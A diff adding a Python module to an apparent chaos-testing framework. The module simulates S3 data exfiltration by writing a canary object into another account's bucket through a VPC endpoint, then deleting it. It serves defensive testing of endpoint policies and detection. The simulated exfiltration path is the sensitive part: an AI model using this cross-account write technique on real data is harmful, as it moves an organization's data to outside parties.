@@ -1,0 +1,50 @@
+"""Data is copied to a stranger's bucket through the VPC's own endpoint."""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING, Any, Final
+
+from chaoskit.aws import Call, Query
+from chaoskit.contract import Change, Fault, fault
+
+if TYPE_CHECKING:
+    from chaoskit.aws import Reader
+    from chaoskit.contract import Changes
+
+_KEY: Final = "chaoskit-canary"
+
+
+@fault(
+    "s3.exfiltrate-through-endpoint",
+    layer="network",
+    attack=("T1537", "T1567.002"),
+    atlas=("AML.T0025",),
+    owasp_ml=("ML03",),
+)
+class ExfiltrateThroughEndpoint(Fault):
+    """Put a canary object into a bucket of another account, through the VPC endpoint that S3 is reached by.
+
+    No internet is needed for it: the endpoint leads to every bucket unless its policy names those of its own.
+
+    Detected by: CloudTrail PutObject, as a data event of the bucket's owner or a network activity event.
+
+    Attributes:
+        endpoint: Id of the S3 endpoint. On AWS the call goes where chaoskit runs: run it inside the VPC.
+        bucket: A bucket of an account that is not in the organization, which lets the caller put, see and
+            delete the canary.
+    """
+
+    endpoint: str
+    bucket: str = "chaoskit-stranger-drop-zone"
+
+    def changes(self, aws: Reader) -> Changes:
+        """Put the canary; undone by deleting it. A canary that lies there is not ours."""
+        which: dict[str, Any] = {"Bucket": self.bucket, "Key": _KEY}
+        there = Query("s3", "HeadObject", which, "ETag", absent=("404", "NoSuchKey", "NoSuchBucket"))
+        if aws.read(there):
+            return
+        yield Change(
+            do=Call("s3", "PutObject", source_vpce=self.endpoint, **which, Body=b"not real data"),
+            undo=(Call("s3", "DeleteObject", absent_ok=("NoSuchBucket", "NoSuchKey"), **which),),
+            state=there,
+        )
